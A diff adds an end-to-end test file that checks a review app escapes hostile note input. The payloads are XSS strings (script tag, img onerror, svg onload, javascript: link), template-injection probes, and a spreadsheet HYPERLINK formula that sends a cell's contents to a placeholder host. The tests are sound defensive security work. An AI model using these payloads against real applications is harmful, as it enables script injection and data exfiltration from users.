@@ -1,0 +1,143 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { verifyPack } from '../../data/pack/verify.ts';
+import { CHROMIUM_ARGS, chromiumPath } from '../support/chromium.ts';
+import { readDocx } from '../support/docx-reader.ts';
+import { must } from '../support/review.ts';
+import { seedReview } from '../support/seed.ts';
+import { openWorkbench, type Workbench, whyNoWorkbench } from '../support/workbench.ts';
+import { type Watched, watch } from './support/quiet.ts';
+
+const SCRIPT = '<script>window.ran = 1</script>';
+const IMAGE = '<img src=x onerror="window.ran = 1">';
+const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")';
+/** Something for every field of the form. */
+const NOTE = {
+  Author: `"><svg onload="window.ran = 1">${IMAGE}`,
+  Organisation: FORMULA,
+  'Question it answers': SCRIPT,
+  Text: `${FORMULA} ${SCRIPT} ${IMAGE} <a href="javascript:window.ran=1">click</a> {{7*7}} \${7*7}`,
+  'Where it was found': `-1+1 ${IMAGE}`,
+} as const;
+const TEXT = NOTE.Text;
+
+const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: number }).ran);
+
+/** The cells of a CSV file, by RFC 4180 and nothing else. */
+function cellsOf(csv: string): readonly string[] {
+  const cells = csv.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g);
+  return [...cells].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
+}
+
+describe.skipIf(whyNoWorkbench() !== null)('a note with a script, an image that fails and a formula', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'keeling-hostile-'));
+  let workbench: Workbench;
+  let page: Page;
+  let watched: Watched;
+  let pack = '';
+
+  const room = (name: string) => page.getByRole('tab', { name, exact: true }).click();
+
+  beforeAll(async () => {
+    const file = join(folder, 'review.keeling');
+    await seedReview(file);
+    workbench = await openWorkbench({ file });
+    page = workbench.page;
+    page.setDefaultTimeout(10_000);
+    watched = watch(page);
+  });
+  afterAll(async () => {
+    await workbench?.close();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  it('is added through the form, with its author’s consent, and shown letter for letter', async () => {
+    await room('Consultation');
+    await page.getByRole('button', { name: /^Add a note/ }).click();
+    const form = page.getByRole('dialog');
+    for (const [label, value] of Object.entries(NOTE))
+      await form.getByLabel(label, { exact: true }).fill(value);
+    await form.getByText('Its author agrees that it is published').click();
+    await form.getByRole('button', { name: 'Add the note' }).click();
+    await form.waitFor({ state: 'detached' });
+    const note = page.getByRole('article').filter({ hasText: 'N-020' });
+    const shown = (await note.textContent()) ?? '';
+    for (const value of Object.values(NOTE)) expect(shown).toContain(value);
+    await note.getByText('may be published', { exact: true }).waitFor();
+  });
+
+  it('is linked to an amendment, and stays text wherever it is named', async () => {
+    await room('Act');
+    const panel = page.getByRole('complementary', { name: 'The amendment being worked on' });
+    await panel.getByRole('button', { name: /Working on/ }).click();
+    await page.getByRole('option', { name: /^A-001/ }).click();
+    await panel.getByRole('button', { name: /^Add a link/ }).click();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByRole('button', { name: /^implements/ }).click();
+    await page.getByRole('option', { name: 'is supported by', exact: true }).click();
+    await dialog.getByRole('option', { name: /^N-020/ }).click();
+    await dialog.getByRole('button', { name: 'Add the link' }).click();
+    await panel.getByRole('button', { name: /^Remove the link: is supported by N-020/ }).waitFor();
+    for (const name of ['Amendments', 'Recommendations', 'Consultation', 'History', 'Pack']) {
+      await room(name);
+      await page.getByRole('tabpanel', { name, exact: true }).getByRole('heading').first().waitFor();
+    }
+    expect(await ran(page)).toBeUndefined();
+    expect(await page.locator('main :is(script, img, iframe, a[href^="javascript"])').count()).toBe(0);
+  });
+
+  it('goes into the pack, which verifies', async () => {
+    await room('Pack');
+    await page.getByRole('button', { name: 'Export the pack' }).click();
+    const done = page.getByRole('region', { name: 'The pack is written' });
+    pack = (await done.locator('p > code').first().textContent()) ?? '';
+    must(await verifyPack(pack));
+  });
+
+  it('is no formula in the CSV, and nothing else is', () => {
+    const cells = cellsOf(readFileSync(join(pack, 'changes.csv'), 'utf8'));
+    expect(cells).toContain(`'${TEXT}`);
+    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
+  });
+
+  it('is words in the Word file', () => {
+    const document = readDocx(readFileSync(join(pack, 'marked-up.docx')));
+    expect(document.faults).toEqual([]);
+    const words = document.paragraphs.map(({ runs }) => runs.map(({ text }) => text).join('')).join('\n');
+    expect(words).toContain(`${NOTE.Author} (${FORMULA})`);
+  });
+
+  it('is words on the page, where nothing runs, even without the page’s own policy', async () => {
+    const executablePath = chromiumPath();
+    if (executablePath === null) throw new Error('This needs a Chromium beside Electron');
+    const browser: Browser = await chromium.launch({ executablePath, args: [...CHROMIUM_ARGS] });
+    try {
+      for (const bypassCSP of [false, true]) {
+        const opened = await (await browser.newContext({ bypassCSP })).newPage();
+        const url = pathToFileURL(join(pack, 'index.html')).href;
+        const asked: string[] = [];
+        opened.on('request', (request) => request.url() !== url && asked.push(request.url()));
+        opened.on('dialog', (dialog) => {
+          asked.push(dialog.message());
+          void dialog.dismiss();
+        });
+        await opened.goto(url);
+        const said = (await opened.locator('body').textContent()) ?? '';
+        for (const value of Object.values(NOTE)) expect(said).toContain(value);
+        expect(await ran(opened)).toBeUndefined();
+        expect(await opened.locator('script, img, svg, iframe, a[href^="javascript"]').count()).toBe(0);
+        expect(asked).toEqual([]);
+      }
+    } finally {
+      await browser.close();
+    }
+  });
+
+  it('was harmless from beginning to end', () => {
+    expect(watched).toEqual({ complaints: [], foreign: [] });
+  });
+});
